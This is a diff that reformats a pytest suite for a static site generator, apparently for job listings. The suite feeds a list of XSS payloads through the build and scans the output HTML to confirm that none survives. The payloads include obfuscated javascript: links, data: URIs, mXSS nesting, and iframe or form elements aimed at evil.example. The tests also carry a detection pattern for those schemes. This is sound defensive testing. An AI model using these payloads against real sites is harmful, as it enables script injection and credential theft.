@@ -21,7 +21,7 @@ PAYLOADS = [
     "[click](JaVaScRiPt:alert('PWN5'))",
     "[click](&#106;avascript:alert('PWN6'))",
     "[click](java&#x09;script:alert('PWN7'))",
-    '<a href="jav&#x0A;ascript:alert(\'PWN8\')">x</a>',
+    "<a href=\"jav&#x0A;ascript:alert('PWN8')\">x</a>",
     "[click](vbscript:msgbox('PWN9'))",
     "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgnUFdOMTAnKTwvc2NyaXB0Pg==)",
     "![pixel](https://tracker.example/pixel.gif?PWN11)",
@@ -29,7 +29,7 @@ PAYLOADS = [
     '<iframe src="https://evil.example/PWN13"></iframe>',
     '<object data="https://evil.example/PWN14"></object><embed src="https://evil.example/PWN14b">',
     '<form action="https://evil.example/PWN15"><input name="password"></form>',
-    '<div style="background:url(javascript:alert(\'PWN16\'))">styled</div><style>body{display:none}</style>',
+    "<div style=\"background:url(javascript:alert('PWN16'))\">styled</div><style>body{display:none}</style>",
     '<a href="https://ok.example/" onclick="alert(\'PWN17\')">ok</a>',
     "<math><mtext><table><mglyph><style><img src=x onerror=alert('PWN18')>",
     "</script><script>alert('PWN19')</script>",
@@ -61,14 +61,17 @@ def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
     (root / "jobs" / "lumen-studio" / "xss.yml").write_text(
         "title: Offre piégée\ncontract: permanent\nlocation:\n  city: Lyon\n  country: FR\n"
         "posted: 2026-11-01\ndeadline: 2036-01-01\napply: https://lumen-studio.example.org/apply\n"
-        f"description:\n  fr: |\n{block(MARKDOWN)}\n  en: |\n{block(MARKDOWN)}\n", encoding="utf-8")
+        f"description:\n  fr: |\n{block(MARKDOWN)}\n  en: |\n{block(MARKDOWN)}\n",
+        encoding="utf-8",
+    )
     story = root / "stories" / "hostile"
     story.mkdir()
     (story / "story.yml").write_text("name: Test\nconsent: 2026-01-01\npublished: 2026-01-02\n", encoding="utf-8")
     (story / "fr.md").write_text(f"---\ntitle: Histoire piégée\nsummary: Un résumé.\n---\n{MARKDOWN}", encoding="utf-8")
     employer = root / "content" / "employers" / "orbe-donnees.yml"
-    employer.write_text(employer.read_text(encoding="utf-8").replace(
-        "  en: |\n", f"  ar: |\n{block(MARKDOWN)}\n  en: |\n", 1), encoding="utf-8")
+    employer.write_text(
+        employer.read_text(encoding="utf-8").replace("  en: |\n", f"  ar: |\n{block(MARKDOWN)}\n  en: |\n", 1), encoding="utf-8"
+    )
     page = root / "content" / "pages" / "about" / "en.md"
     page.write_text(page.read_text(encoding="utf-8") + "\n" + MARKDOWN, encoding="utf-8")
     out = root / "site"
@@ -97,7 +100,11 @@ class Scan(HTMLParser):
                 self.found.append(f"{tag} {key}={value!r}")
             if key in ("href", "src", "action", "data", "formaction", "srcset"):
                 squashed = re.sub(r"[\s\x00-\x1f]", "", unquote(html.unescape(value))).lower()
-                if squashed.startswith(("javascript:", "vbscript:", "data:")) or "evil.example" in squashed or "tracker.example" in squashed:
+                if (
+                    squashed.startswith(("javascript:", "vbscript:", "data:"))
+                    or "evil.example" in squashed
+                    or "tracker.example" in squashed
+                ):
                     self.found.append(f"{tag} {key}={value!r}")
         if tag in ("script", "style"):
             self.in_script = a
@@ -153,7 +160,9 @@ def test_no_payload_survives_in_any_output_file(hostile_site: Path) -> None:
 def test_plain_text_fields_refuse_markup(project: Path) -> None:
     (project / "jobs" / "lumen-studio" / "x.yml").write_text(
         "title: <img src=x onerror=alert(1)>\ncontract: permanent\nlocation:\n  city: <b>Lyon</b>\n  country: FR\n"
-        "posted: 2026-11-01\ndeadline: 2036-01-01\napply: javascript:alert(1)\ndescription: ok\n", encoding="utf-8")
+        "posted: 2026-11-01\ndeadline: 2036-01-01\napply: javascript:alert(1)\ndescription: ok\n",
+        encoding="utf-8",
+    )
     result = run(project, "check", "--today", TODAY)
     assert result.returncode == 1
     assert result.stdout.splitlines() == [
@@ -199,7 +208,11 @@ def test_every_internal_link_anchor_and_asset_exists(site: Path) -> None:
             parts = urlsplit(ref)
             if parts.scheme or parts.netloc or ref.startswith(("mailto:", "tel:")):
                 continue
-            target = page if not parts.path else (site / parts.path.lstrip("/") if parts.path.startswith("/") else page.parent / parts.path)
+            target = (
+                page
+                if not parts.path
+                else (site / parts.path.lstrip("/") if parts.path.startswith("/") else page.parent / parts.path)
+            )
             target = Path(unquote(str(target)))
             if target.is_dir():
                 target = target / "index.html"
